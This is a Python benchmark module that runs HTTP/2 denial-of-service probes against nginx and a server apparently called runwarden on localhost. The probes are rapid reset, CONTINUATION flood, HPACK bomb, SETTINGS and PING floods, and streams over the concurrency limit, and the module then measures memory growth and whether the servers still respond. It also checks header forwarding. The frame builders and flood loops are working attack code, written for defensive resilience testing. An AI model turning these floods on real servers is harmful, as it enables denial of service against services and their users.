"""HTTP/2's known attacks as black-box probes, run by the front-door section against nginx and
runwarden side by side (HTTP/2 with prior knowledge, in front of `benches.app`): rapid reset
(CVE-2023-44487), CONTINUATION flood (CVE-2024-27316 and kin), HPACK bomb, SETTINGS and PING
floods (CVE-2019-9515, CVE-2019-9512) and streams above the server's MAX_CONCURRENT_STREAMS.

Each speaks raw frames over a socket (a server must not be spared by a polite client
library), watches the server process's RSS meanwhile, then asks for /json on a fresh
connection. A probe passes when the server bounded the attack (refused, closed, or stopped
reading), grew by less than `RSS_BOUND_MIB`, and answered the fresh request within a second.

    probe_all(port, app_port, pid, frames) -> {attack: (passed, detail)}
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import time
import urllib.request
import uuid
from collections import Counter
from collections.abc import Callable

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from h2.errors import ErrorCodes
from runwarden.testing.raw import h2_exchange

from benches.common import RssWatch

Finding = tuple[bool, str]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, PADDED, PRIORITY = 0x1, 0x4, 0x8, 0x20
MAX_CONCURRENT_STREAMS = 0x3
RSS_BOUND_MIB = 50.0
STALL_SECONDS = 2.0
"""A server that takes no byte of ours for this long has stopped reading: it is bounded."""
SMALL_RCVBUF = 64 * 1024
"""The floods' receive buffer: small, so answers left unread back up into the server at once
instead of into a loopback buffer that grows to tens of MiB."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")


def frame_with(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return frame(kind, flags, stream, payload) + payload


def hpack_int(value: int, prefix: int, first: int) -> bytes:
    """RFC 7541 5.1: `value` with a `prefix`-bit prefix, `first` holding the pattern bits."""
    top = (1 << prefix) - 1
    if value < top:
        return bytes((first | value,))
    out, value = bytearray((first | top,)), value - top
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes((value,))


def literal(name: bytes | int, value: bytes, indexed: bool = False) -> bytes:
    """A literal field (RFC 7541 6.2): `name` a static-table index or a new name; with
    `indexed`, the field enters the dynamic table."""
    pattern, prefix = (0x40, 6) if indexed else (0x00, 4)
    if isinstance(name, int):
        head = hpack_int(name, prefix, pattern)
    else:
        head = bytes((pattern,)) + hpack_int(len(name), 7, 0) + name
    return head + hpack_int(len(value), 7, 0) + value


def request_block(path: str) -> bytes:
    """GET `path` from the static table: :method GET (2), :scheme http (6), :path (4 as a
    name), :authority (1 as a name). No dynamic-table entry, so any number can be sent."""
    return b"\x82\x86" + literal(4, path.encode()) + literal(1, b"bench")


def _code(code: int) -> str:
    with contextlib.suppress(ValueError):
        return ErrorCodes(code).name
    return hex(code)


class Wire:
    """One HTTP/2 connection at the frame level: sends without blocking, reads what the server
    sends (or leaves it unread), and keeps what tells how it ended."""

    def __init__(self, port: int, rcvbuf: int | None = None) -> None:
        self.sock = socket.socket()
        if rcvbuf is not None:  # before connecting, so the window scale follows it
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(5)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.buffer = bytearray()
        self.block = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.settings: dict[int, int] = {}
        self.goaway: int | None = None
        self.resets: Counter[str] = Counter()
        self.statuses: Counter[int] = Counter()
        self.closed = False
        self.stalled = False
        self.sent = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def __enter__(self) -> Wire:
        return self

    def __exit__(self, *exc: object) -> None:
        self.sock.close()

    def send(self, data: bytes, read: bool = True) -> bool:
        """All of `data`, unless the server closes or takes none of it for `STALL_SECONDS`
        (then `stalled`); whether all was sent. With `read`, what comes meanwhile is read."""
        view = memoryview(data)
        stalled_since = None
        while view:
            if read:
                self.pump()
            if self.closed:
                return False
            try:
                n = self.sock.send(view)
            except BlockingIOError:
                n = 0
            except OSError:
                self.closed = True
                return False
            if n:
                view, stalled_since = view[n:], None
                self.sent += n
                continue
            now = time.monotonic()
            stalled_since = stalled_since or now
            if now - stalled_since > STALL_SECONDS:
                self.stalled = True
                return False
            select.select([self.sock] if read else [], [self.sock], [], 0.05)
        return True

    def pump(self, wait: float = 0.0) -> None:
        """Read what has come, waiting up to `wait` s for more, and take its frames in."""
        deadline = time.monotonic() + wait
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], max(0.0, deadline - time.monotonic()))
            if not ready:
                return
            try:
                data = self.sock.recv(1 << 20)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buffer += data
            self._frames()

    def _frames(self) -> None:
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            payload = bytes(self.buffer[9 : 9 + length])
            del self.buffer[: 9 + length]
            if kind == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                self.resets[_code(int.from_bytes(payload, "big"))] += 1
            elif kind == SETTINGS and not flags & 0x1:
                for i in range(0, len(payload) - 5, 6):
                    key = int.from_bytes(payload[i : i + 2], "big")
                    self.settings[key] = int.from_bytes(payload[i + 2 : i + 6], "big")
            elif kind in (HEADERS, CONTINUATION):
                if kind == HEADERS and flags & PADDED:
                    payload = payload[1 : len(payload) - payload[0]]
                if kind == HEADERS and flags & PRIORITY:
                    payload = payload[5:]
                self.block += payload
                if flags & END_HEADERS:
                    self._response_head(bytes(self.block))
                    self.block.clear()

    def _response_head(self, block: bytes) -> None:
        try:
            fields = dict(self.decoder.decode(block, raw=True))
        except hpack.HPACKError:
            return
        if b":status" in fields:  # trailers carry none
            self.statuses[int(fields[b":status"])] += 1

    @property
    def refused(self) -> bool:
        """The server ended this connection, or reset or answered a stream of it."""
        return self.closed or self.goaway is not None or bool(self.resets or self.statuses)

    def ending(self) -> str:
        parts = [f"GOAWAY {_code(self.goaway)}"] if self.goaway is not None else []
        parts += [f"{n} RST_STREAM {code}" for code, n in self.resets.items()]
        parts += [f"{n}x {status}" for status, n in sorted(self.statuses.items())]
        if self.closed:
            parts.append("closed")
        elif self.stalled:
            parts.append(f"stopped reading ({STALL_SECONDS:g} s)")
        return ", ".join(parts) or "nothing, connection open"


def seen(app_port: int, path: str) -> int:
    with urllib.request.urlopen(f"http://127.0.0.1:{app_port}/control/seen", timeout=5) as r:
        return int(json.loads(r.read()).get(path, 0))


def fresh_request(port: int, timeout: float = 5.0) -> tuple[int, float]:
    """GET /json over a new HTTP/2 connection: (status or 0, seconds)."""
    began = time.monotonic()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.send_headers(1, [(":method", "GET"), (":path", "/json"), (":scheme", "http"),
                          (":authority", "bench")], end_stream=True)  # fmt: skip
    status = 0
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
            sock.sendall(conn.data_to_send())
            while data := sock.recv(65536):
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        status = int(dict(event.headers)[b":status"])
                    if isinstance(event, h2.events.StreamEnded | h2.events.ConnectionTerminated):
                        return status, time.monotonic() - began
                sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass
    return status, time.monotonic() - began


def rapid_reset(port: int, app_port: int, frames: int) -> Finding:
    """CVE-2023-44487: a request and its RST_STREAM, again and again; the streams are closed
    at once, so MAX_CONCURRENT_STREAMS never stops them, and each may start work at the app."""
    streams = max(100, frames // 10)
    path = f"/rr-{uuid.uuid4().hex[:8]}"
    block = request_block(path)
    opened = 0
    with Wire(port) as wire:
        while opened < streams and not (wire.closed or wire.goaway is not None):
            batch = b"".join(
                frame_with(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
                + frame_with(RST_STREAM, 0, 1 + 2 * i, ErrorCodes.CANCEL.to_bytes(4, "big"))
                for i in range(opened, min(streams, opened + 100))
            )
            if not wire.send(batch):
                break
            opened = min(streams, opened + 100)
        wire.pump(0.5)
        time.sleep(0.3)  # requests the server forwarded reach the app
        reached = seen(app_port, path)
        bounded = wire.closed or wire.goaway is not None or reached <= streams // 10
        return bounded, (
            f"{opened} of {streams} streams opened and reset; server: {wire.ending()}; "
            f"{reached} reached the app"
        )


def continuation_flood(port: int, app_port: int, frames: int) -> Finding:
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames that never end it: a
    server must bound the header block while it arrives, not once it is whole."""
    count = max(64, frames // 50)
    field = literal(b"x-flood", b"a" * 100)
    chunk = frame_with(CONTINUATION, 0, 1, field * (16_000 // len(field)))
    with Wire(port) as wire:
        wire.send(frame_with(HEADERS, END_STREAM, 1, request_block("/json")))
        sent_frames = 0
        while sent_frames < count and not wire.refused and not wire.stalled:
            if not wire.send(chunk * 16):
                break
            sent_frames += 16
        wire.pump(0.5)
        block_kib = sent_frames * len(chunk) >> 10
        if not (wire.refused or wire.stalled):
            return False, f"took all {block_kib} KiB of header block; server: {wire.ending()}"
        return True, f"{block_kib} KiB of header block sent; server: {wire.ending()}"


def hpack_bomb(port: int, app_port: int, frames: int) -> Finding:
    """One 4 KiB field enters the dynamic table; then header blocks of one-byte references
    to it, each frame decoding to about 64 MiB: a server must cap the decoded list."""
    path = f"/bomb-{uuid.uuid4().hex[:8]}"
    entry = literal(b"x-bomb", b"a" * 4000, indexed=True)  # 4,038 of the table's 4,096 bytes
    bomb = request_block(path)
    bomb += b"\xbe" * (16_384 - len(bomb))  # 0xbe: the dynamic table's first entry (62)
    with Wire(port) as wire:
        wire.send(frame_with(HEADERS, END_STREAM | END_HEADERS, 1,
                             request_block("/json") + entry))  # fmt: skip
        wire.pump(0.5)
        first = wire.ending()
        wire.statuses.clear()  # from here on, the bombs' answers only
        for i in range(8):
            if not wire.send(frame_with(HEADERS, END_STREAM | END_HEADERS, 3 + 2 * i, bomb)):
                break
        wire.pump(1.0)
        reached = seen(app_port, path)
        answered = sum(n for status, n in wire.statuses.items() if status < 400)
        bounded = reached == 0 and answered == 0
        return bounded, (
            f"the filler request: {first}; 8 bombs of 64 MiB decoded each: server: "
            f"{wire.ending()}; {reached} reached the app"
        )


def _flood(port: int, one: bytes, frames: int, answer: int) -> Finding:
    """`frames` copies of `one`, never reading the server's `answer` bytes for each."""
    batch = 10_000
    with Wire(port, rcvbuf=SMALL_RCVBUF) as wire:
        sent = 0
        while sent < frames and wire.send(one * min(batch, frames - sent), read=False):
            sent += min(batch, frames - sent)
        wire.pump(0.5)  # reads the backlog: a GOAWAY is at its end
        owed_mib = sent * answer / (1 << 20)
        verdict = (
            f"{sent:,} of {frames:,} frames written, up to {owed_mib:.1f} MiB of answers owed, "
            "none read"
        )
        if wire.closed or wire.goaway is not None or wire.stalled:
            return True, f"{verdict}; server: {wire.ending()}"
        # All taken with nothing left unread beyond what sockets hold: bounded here, but
        # a larger flood would tell more.
        within = owed_mib < 8
        return within, f"{verdict}; server took them all: {wire.ending()}"


def settings_flood(port: int, app_port: int, frames: int) -> Finding:
    """CVE-2019-9515: empty SETTINGS frames, each owed an ACK the client never reads."""
    return _flood(port, frame(SETTINGS, 0, 0), frames, 9)


def ping_flood(port: int, app_port: int, frames: int) -> Finding:
    """CVE-2019-9512: PINGs, each owed a PING ACK the client never reads."""
    return _flood(port, frame_with(PING, 0, 0, b"runwarden"[:8]), frames, 17)


def streams_over_limit(port: int, app_port: int, frames: int) -> Finding:
    """Four times the server's MAX_CONCURRENT_STREAMS at once, each held 3 s at the app: the
    streams over the limit are refused and never reach it."""
    path = f"/hold-{uuid.uuid4().hex[:8]}"
    block = request_block(f"{path}?seconds=3")
    with Wire(port) as wire:
        wire.pump(0.5)  # the server's SETTINGS: its limit
        limit = wire.settings.get(MAX_CONCURRENT_STREAMS)
        streams = 4 * (limit or 128)
        wire.send(b"".join(frame_with(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
                           for i in range(streams)))  # fmt: skip
        wire.pump(1.0)
        reached = seen(app_port, path)  # the held requests are all still at the app
        bounded = limit is not None and reached <= limit
        return bounded, (
            f"{streams} streams against an advertised limit of {limit}: {reached} reached "
            f"the app; server: {wire.ending()}"
        )


ATTACKS: dict[str, Callable[[int, int, int], Finding]] = {
    "rapid reset (CVE-2023-44487)": rapid_reset,
    "CONTINUATION flood": continuation_flood,
    "HPACK bomb": hpack_bomb,
    "SETTINGS flood, never read": settings_flood,
    "PING flood, never read": ping_flood,
    "streams above MAX_CONCURRENT_STREAMS": streams_over_limit,
}


def probe(
    attack: Callable[[int, int, int], Finding], port: int, app_port: int, pid: int, frames: int
) -> Finding:
    """One attack, then the server's growth and a fresh request."""
    with RssWatch(pid) as rss:
        try:
            bounded, detail = attack(port, app_port, frames)
        except OSError as exc:
            bounded, detail = False, f"probe failed: {exc!r}"
        time.sleep(0.2)  # what the attack left behind settles
    status, took = fresh_request(port)
    fresh = status == 200 and took < 1.0
    passed = bounded and rss.growth < RSS_BOUND_MIB and fresh
    return passed, (
        f"{detail}; RSS +{rss.growth:.1f} MiB; a fresh request: "
        + (f"{status} in {1000 * took:.0f} ms" if status else f"no answer in {took:.1f} s")
    )


def probe_all(port: int, app_port: int, pid: int, frames: int) -> dict[str, Finding]:
    return {name: probe(attack, port, app_port, pid, frames) for name, attack in ATTACKS.items()}


# --- what an HTTP/2 client sent reaches the app (issue 22) -----------------------------------


def exchange(
    port: int, headers: list[tuple[str, str]], body: bytes | None = None
) -> tuple[int, bytes]:
    """One HTTP/2 request, as sent: (status or 0 if the stream was reset, body)."""
    status, answer, _ = h2_exchange(port, headers, body)
    return status, answer


def _get(path: str, *extra: tuple[str, str], authority: str = "x") -> list[tuple[str, str]]:
    return [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", authority),
            *extra]  # fmt: skip


def cookie_crumbs(port: int) -> Finding:
    """22.2 (RFC 9113 8.2.3): three `cookie` fields reach an HTTP/1.1 app as one line."""
    crumbs = [("cookie", "session=abc123"), ("cookie", "csrf=tok"), ("cookie", "lang=en")]
    status, body = exchange(port, _get("/echo", *crumbs))
    if status != 200:
        return False, f"answered {status}"
    lines = [v for n, v in json.loads(body)["headers"] if n.lower() == "cookie"]
    return lines == ["session=abc123; csrf=tok; lang=en"], f"the app saw {lines}"


def get_body(port: int) -> Finding:
    """22.1: a GET whose DATA frames carry 7 bytes and no `content-length`."""
    status, body = exchange(port, _get("/echo"), body=b"payload")
    read = json.loads(body).get("body_bytes") if status == 200 else None
    return read == 7, f"the app read {read} of 7 bytes"


def host_unlike_authority(port: int) -> Finding:
    """22 (RFC 9113 8.3.1): a `host` naming another entity than `:authority` is malformed."""
    status, body = exchange(port, _get("/echo", ("host", "evil.example"), authority="app.example"))
    if status == 200:
        hosts = [v for n, v in json.loads(body)["headers"] if n.lower() == "host"]
        return False, f"forwarded, the app saw Host {hosts}"
    return True, f"refused ({status or 'reset'})"


FIDELITY: dict[str, Callable[[int], Finding]] = {
    '22.2 cookie crumbs joined by "; "': cookie_crumbs,
    "22.1 a GET body without content-length": get_body,
    "22. host unlike :authority refused": host_unlike_authority,
}


def fidelity_all(port: int) -> dict[str, Finding]:
    out = {}
    for item, probe_one in FIDELITY.items():
        try:
            out[item] = probe_one(port)
        except (OSError, ValueError, KeyError) as exc:
            out[item] = (False, f"probe failed: {exc!r}")
    return out
